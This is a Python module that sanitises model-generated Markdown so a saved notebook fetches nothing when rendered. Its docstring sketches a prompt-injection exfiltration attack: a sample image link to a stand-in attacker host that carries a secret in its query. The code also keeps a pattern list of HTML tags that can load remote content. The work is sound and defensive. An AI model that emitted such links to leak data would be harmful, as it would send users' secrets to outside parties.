"""Markdown that fetches nothing when rendered: for the ``text/markdown`` a saved notebook keeps.

Model output is untrusted: a prompt-injected answer can write
``![x](https://attacker/?q=<secret>)`` or ``<img src=...>``, and whatever renders it
(JupyterLab opening the file without widget state, nbconvert, GitHub's image proxy,
VS Code) fetches the URL by itself, with the secret in it. The live widget sanitises in the
browser (``js/src/sanitize.js``); the saved Markdown goes through ``without_remote_fetches``,
which rewrites the source so that it reads the same and loads nothing:

- An image becomes a link behind a picture mark, ``![alt](url)`` -> ``🖼 [alt](url)``
  (likewise ``![alt][ref]``, ``![alt][]``, ``![alt]``: the link keeps its reference and its
  definition). A link is only followed on a click. Inside a link (``[![badge](img)](page)``)
  it becomes ``🖼 badge``: links do not nest. Inline raster ``data:image/...;base64`` images
  stay images, as in the live view: they fetch nothing.
- Raw HTML is escaped (``<`` -> ``&lt;``), so it shows as text (and so is text such as
  ``<img`` that a looser parser than CommonMark could take for a tag), except a short list of
  tags written with no attribute at all (``<br>``, ``<sub>``, ``<kbd>``...) within a
  paragraph, which cannot name a URL. An allow-list, not a list of the tags that fetch:
  those are many (``img``, ``svg`` ``image``/``use``, ``video``, ``picture``,
  ``input type=image``, ``link``, ``style``, ``object``, any ``style="...url()"``,
  ``background=``...) and each renderer's HTML parser has its quirks. An HTML *block*
  (a line that starts with a tag) is escaped whatever its tags: it is raw to its end, and
  renderers disagree on where that is.
- The TeX macros that take CSS (``\\style``, ``\\bbox``, ``\\mmlToken``) get their backslash
  escaped: JupyterLab and nbconvert typeset ``$...$`` with MathJax, which would apply
  ``\\style{background:url(...)}``. Outside math ``\\\\style`` renders as ``\\style``, as before.

Code (spans, fenced and indented blocks) is left exactly as it is: its text renders as code.
The regions are found with markdown-it-py (CommonMark with GFM tables, as JupyterLab, GitHub
and VS Code parse), not with regexes, and the source is edited in place (``markdown_offsets``
says where each parsed piece came from), so everything else keeps its bytes (line endings
become ``\\n``). The rewrite is repeated until a parse finds nothing left (an image's alt
text can hold another image); the result is idempotent.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.common.normalize_url import validateLink
from markdown_it.rules_inline import StateInline
from markdown_it.token import Token

from .markdown_offsets import SourceMap, Unmappable

__all__ = ["IMAGE_MARK", "without_remote_fetches"]

IMAGE_MARK = "🖼"
"""What stands before the link that replaces an image."""
_NO_ALT = "image"
"""The link text of an image with no alt text."""

# Raw HTML kept as HTML: these tags exactly, with no attribute (so no URL, no style).
_SAFE_TAG = re.compile(
    r"</?(?:b|i|em|strong|u|s|del|ins|sub|sup|kbd|mark|small|code|br|hr|p|details|summary"
    r"|ul|ol|li|dl|dt|dd|table|thead|tbody|tfoot|tr|th|td|blockquote)\s*/?>",
    re.IGNORECASE,
)
# `<img` and the like that CommonMark does not read as a tag (`<img` at the end of a line,
# an unquoted `src=a=b`) render as text; renderers that read HTML more loosely (mistune,
# nbconvert's) may make a tag of them. Escaping them shows the same text.
_LOOSE_TAG = re.compile(
    r"<(?:img|image|svg|video|audio|source|picture|i?frame|frameset|object|embed|link|style"
    r"|script|input|track|meta|base|body|table|t[dhr]|math|applet|bgsound|portal|use|feimage)"
    r"(?=[\s/>]|$)",
    re.IGNORECASE,
)
# An inline image that fetches nothing (the live view keeps the same ones).
_SAFE_DATA_IMAGE = re.compile(r"data:image/(?:png|jpe?g|gif|webp|avif|bmp);base64,[A-Za-z0-9+/]+=*")
# TeX macros whose argument is CSS in MathJax (the `html` and `bbox` packages, and base).
_CSS_MACRO = re.compile(r"(?:style|bbox|mmlToken)(?![A-Za-z])")
_MAY_FETCH = re.compile(r"[!<\\]")

# Deeper than this, markdown-it stops parsing (other renderers do not): such a document is
# shown as code instead. Python's recursion limit allows ~200.
_MAX_NESTING = 100
# Each pass peels one level of images nested in alt text; more than a few is an attack.
_MAX_PASSES = 8

_TOP = "gemini_widgets.top_state"
_FOUND = "gemini_widgets.found"


def without_remote_fetches(markdown: str) -> str:
    """``markdown`` rewritten so that rendering it makes no request (see the module doc)."""
    text = markdown.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")
    if not _MAY_FETCH.search(text):
        return text  # no image, HTML or TeX macro without one of these
    try:
        for _ in range(_MAX_PASSES):
            edits = _edits(text)
            if edits is None:
                break
            if not edits:
                return text
            text = _apply(text, edits)
    except (RecursionError, ValueError, IndexError, AssertionError):  # pragma: no cover
        pass  # fail closed: a parser surprise must not leave the answer able to fetch
    return _as_code_block(text)


# ---- finding what to rewrite ---------------------------------------------------------


@dataclass(frozen=True)
class _Found:
    """Something the inline parser matched, at offsets in its inline token's content."""

    kind: str  # "image", "html" or "tex"
    start: int
    end: int
    label_end: int = -1  # image: the offset of the `]` that closes the alt text
    in_link: bool = False
    keep: bool = False  # image: a safe data: image
    drop_url: bool = False  # image: a data: URL, or one renderers refuse (javascript:)


Edit = tuple[int, int, str]  # replace text[start:end] with the string


def _edits(text: str) -> list[Edit] | None:
    """What to change in ``text``; None if it cannot be parsed reliably (too deep)."""
    env: dict[str, Any] = {}
    tokens = _MD.parse(text, env)
    if any(token.level >= _MAX_NESTING - 2 for token in tokens):
        return None
    source = SourceMap(text)
    edits: list[Edit] = []
    row = 0
    try:
        for index, token in enumerate(tokens):
            if token.type == "html_block" and token.map:
                # Escaping its first `<` makes it Markdown text; the next pass sees what it
                # holds. Even a block of allowed tags: renderers disagree on where an HTML
                # block ends (mistune, nbconvert's, runs `- <b>` on into the next line, which
                # markdown-it reads as a code span), and a block is raw to its end.
                start = source.line_start(token.map[0])
                at = text.find("<", start, source.line_end(token.map[0]))
                if at < 0:
                    raise Unmappable
                edits.append((at, at + 1, "&lt;"))
            elif token.type == "inline" and token.content:
                parent = tokens[index - 1] if index else None
                edits += _token_edits(source, token, parent, env)
            elif token.type == "tr_open" and token.map:
                row = token.map[0]
            elif token.type == "tr_close":
                # Cells past the header's count are dropped by markdown-it (and GFM), but
                # not by every renderer: they are looked at too.
                for cell in _extra_cells(source.rest_of_row(row)):
                    extra = Token("inline", "", 0, content=cell, map=[row, row + 1])
                    edits += _token_edits(source, extra, _CELL, env)
    except Unmappable:
        return None
    return edits


_CELL = Token("td_open", "td", 1)


def _token_edits(
    source: SourceMap, token: Token, parent: Token | None, env: dict[str, Any]
) -> list[Edit]:
    found = _inline_findings(token, env)
    if found:
        return _inline_edits(token.content, found, source.offsets(token, parent))
    if parent is not None and parent.type in ("th_open", "td_open"):
        source.offsets(token, parent)  # moves the row's cursor on
    return []


def _extra_cells(rest: str) -> list[str]:
    """The cells in what is left of a table row, as markdown-it would split them."""
    cells, current, escaped = [], "", False
    for char in rest:
        if char == "|" and not escaped:
            cells.append(current)
            current = ""
        elif char == "|":
            current = current[:-1] + char  # `\|` is a `|` in the cell
        else:
            current += char
        escaped = char == "\\"
    cells.append(current)
    return [cell.strip(" \t") for cell in cells if cell.strip(" \t")]


def _inline_findings(token: Token, env: dict[str, Any]) -> list[_Found]:
    """Run the inline parser over ``token.content`` and collect what the hooks saw."""
    state = StateInline(token.content, _MD, env, [])
    env[_TOP], env[_FOUND] = state, []
    try:
        _MD.inline.tokenize(state)
        return env[_FOUND]
    finally:
        del env[_TOP], env[_FOUND]


def _inline_edits(content: str, found: list[_Found], offsets: list[int]) -> list[Edit]:
    def at(k: int) -> int:
        if offsets[k] < 0:
            raise Unmappable
        return offsets[k]

    def after(k: int) -> int:  # the source offset just after content[k - 1]
        return at(k - 1) + 1

    edits: list[Edit] = []
    for item in found:
        start = at(item.start)
        if item.kind == "html":
            edits.append((start, start + 1, "&lt;"))
        elif item.kind == "tex":
            edits.append((start, start, "\\"))
        elif item.kind == "image" and not item.keep:
            no_alt = not content[item.start + 2 : item.label_end].strip()
            if item.in_link or item.drop_url:
                # `![alt](src)` -> `🖼 alt`: the enclosing link stays the one link; a
                # data: URL is no use as a link (and can be long), nor is javascript:.
                edits.append((start, after(item.start + 2), f"{IMAGE_MARK} "))
                if no_alt:
                    edits.append((at(item.label_end), at(item.label_end), _NO_ALT))
                edits.append((at(item.label_end), after(item.end), ""))
            else:
                # `![alt](src)` -> `🖼 [alt](src)`: the same brackets, so a reference
                # (`![alt][ref]`, `![alt][]`, `![alt]`) keeps resolving.
                edits.append((start, start + 1, f"{IMAGE_MARK} "))
                if no_alt:
                    edits.append((at(item.label_end), at(item.label_end), _NO_ALT))
    return edits


def _apply(text: str, edits: list[Edit]) -> str:
    # Stable sort: edits at one point keep their order (an insertion, then a deletion).
    ordered = sorted(edits, key=lambda edit: edit[0])
    out, done = [], 0
    for start, end, replacement in ordered:
        if start < done:
            raise AssertionError(f"overlapping edits at {start}")  # pragma: no cover
        out += [text[done:start], replacement]
        done = end
    out.append(text[done:])
    return "".join(out)


def _as_code_block(text: str) -> str:
    """The last resort, for input the parser gives up on: all of it as literal text."""
    runs = [len(run) for run in re.findall(r"`+", text)]
    fence = "`" * max(3, max(runs, default=0) + 1)
    return f"{fence}text\n{text}\n{fence}\n"


# ---- the parser and its hooks ---------------------------------------------------------

Rule = Callable[[StateInline, bool], bool]


def _watching(rule: Rule, describe: Callable[[StateInline, int], _Found | None]) -> Rule:
    """``rule``, reporting what it matched in a top-level inline parse (not in a silent
    look-ahead, nor in the separate parse of an image's alt text)."""

    def watched(state: StateInline, silent: bool) -> bool:
        start = state.pos
        if not rule(state, silent):
            return False
        if not silent and state.env.get(_TOP) is state:
            found = describe(state, start)
            if found is not None:
                state.env[_FOUND].append(found)
        return True

    return watched


def _image(state: StateInline, start: int) -> _Found:
    token = state.tokens[-1]
    alt = token.content
    src = str(token.attrs.get("src", ""))
    keep = bool(_SAFE_DATA_IMAGE.fullmatch(src)) and not re.search(r"[<!\[\\]", alt)
    return _Found(
        "image",
        start,
        state.pos,
        label_end=start + 2 + len(alt),
        in_link=state.linkLevel > 0,
        keep=keep,
        drop_url=src[:5].lower() == "data:" or not validateLink(src),
    )


def _html(state: StateInline, start: int) -> _Found | None:
    if _SAFE_TAG.fullmatch(state.src, start, state.pos):
        return None
    return _Found("html", start, state.pos)


def _tex(state: StateInline, start: int) -> _Found | None:
    if _CSS_MACRO.match(state.src, start + 1):
        return _Found("tex", start, start + 1)
    return None


def _loose_tag(state: StateInline, silent: bool) -> bool:
    """Last of the inline rules: a `<` that is not an autolink nor HTML, as plain text;
    reported if a looser parser could take it for a tag that loads something."""
    if state.src[state.pos] != "<":
        return False
    if not silent and state.env.get(_TOP) is state and _LOOSE_TAG.match(state.src, state.pos):
        state.env[_FOUND].append(_Found("html", state.pos, state.pos + 1))
    if not silent:
        state.pending += "<"
    state.pos += 1
    return True


def _parser() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": True, "maxNesting": _MAX_NESTING})
    md.enable(["table", "strikethrough"])
    # markdown-it makes no image of `![x](javascript:...)` or `data:image/svg+xml`, and
    # no definition of `[x]: file:...`; other renderers may. Here every URL counts.
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    md.disable("inline")  # the core rule: inline content is parsed here, with the hooks
    for name, describe in (("image", _image), ("html_inline", _html), ("escape", _tex)):
        rule = next(r.fn for r in md.inline.ruler.__rules__ if r.name == name)
        md.inline.ruler.at(name, _watching(rule, describe))
    md.inline.ruler.push("loose_tag", _loose_tag)
    return md


_MD = _parser()
